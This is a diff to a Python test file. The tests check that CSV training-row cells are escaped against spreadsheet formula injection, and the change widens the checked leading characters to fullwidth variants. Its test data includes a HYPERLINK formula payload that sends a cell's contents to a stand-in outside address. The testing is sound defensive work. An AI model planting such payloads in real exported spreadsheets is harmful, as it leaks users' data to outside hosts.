@@ -11,12 +11,13 @@ from holdspace.domain.conversation.transcript import Speaker, Transcript, Turn
 from holdspace.domain.table_cells import as_text, from_text
 from holdspace.workflows.training_rows import as_csv, training_rows
 
-FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://192.0.2.1/?"&A1)']
+BEGINS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+FORMULAS = [*(f"{begin}1+1" for begin in BEGINS), '=HYPERLINK("http://192.0.2.1/?"&A1)']
 
 
 @pytest.mark.parametrize("words", [*FORMULAS, "plain", "'tis so", ""])
 def test_a_cell_is_no_formula_and_comes_back_as_it_was(words: str):
-    assert not as_text(words).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+    assert not as_text(words).startswith(tuple(BEGINS))
     assert from_text(as_text(words)) == words
 
 
@@ -27,4 +28,4 @@ def test_no_cell_of_training_rows_is_a_formula():
     [_, *rows] = csv.reader(io.StringIO(as_csv(list(training_rows("practice-1", said, [])))))
 
     assert [from_text(row[3]) for row in rows] == spoken
-    assert all(cell == "" or cell[0] not in "=+-@\t\r\n" for row in rows for cell in row)
+    assert all(cell == "" or cell[0] not in BEGINS for row in rows for cell in row)
